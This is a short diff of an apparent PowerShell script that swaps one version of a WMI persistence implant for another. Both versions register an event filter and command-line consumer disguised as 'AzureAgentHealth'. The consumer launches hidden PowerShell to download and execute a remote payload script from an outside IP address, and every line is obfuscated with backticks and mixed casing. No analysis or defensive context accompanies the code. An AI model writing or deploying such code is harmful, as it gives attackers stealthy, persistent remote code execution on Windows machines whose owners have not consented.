@@ -1,4 +1,4 @@
-# tAsK 8955 v1
-$FiLTEr = sEt-wM`I`in`StAn`Ce -nameSpACE rOOT\sUbScRiPtIoN -cLaSs __EvEnTfIlTeR -ARgUMENtS @{nAmE='AzureAgentHealth';eveNtnAmespaCe='root\cimv2';QuErYlAnGuAgE='WQL';quERY="SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'"}
-$CONsUMEr = sET-w`mI`iNsTaN`cE -NaMeSpAcE ROOT\SubsCRiPTion -class CoMmAnDlInEeVeNtCoNsUmEr -aRgUmEnTs @{NaMe='AzureAgentHealth';comManDLiNeTEMpLATe="powershell.exe -NoP -W Hidden -c IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.44/payload.ps1')"}
-SEt-`W`mi`in`StAnCe -nAmEsPaCe ROOt\SubScrIption -ClaSS __fILtERtOcoNSuMERbINDinG -ArgUMenTS @{fIlTeR=$FIlTER;CoNSUmER=$CoNSUmEr}
+# cOnFiG 1311 v1
+$filteR = seT-Wm`IiN`stAN`Ce -NaMeSPace ROOT\sUbScRiPtIoN -CLAss __eVENTfILter -aRgUmEnTs @{nAmE='AzureAgentHealth';EvEnTNAMeSPAcE='root\cimv2';QUeryLAngUAGe='WQL';queRy="SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'"}
+$COnsumEr = sET-`W`M`i`InSTaN`ce -nAmEsPaCe RooT\SubscrIpTIoN -ClAsS cOMmANdlIneeVentconSUMeR -argumEnts @{NAME='AzureAgentHealth';CoMmAnDlInEtEmPlAtE="powershell.exe -NoP -W Hidden -c IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.200/inv.ps1')"}
+set-W`m`iINsTanCe -NameSPace ROoT\suBscrIPTION -cLass __FiLTeRtOconSumerBInding -ArguMENtS @{filTeR=$FiLtEr;conSUmER=$ConSumEr}
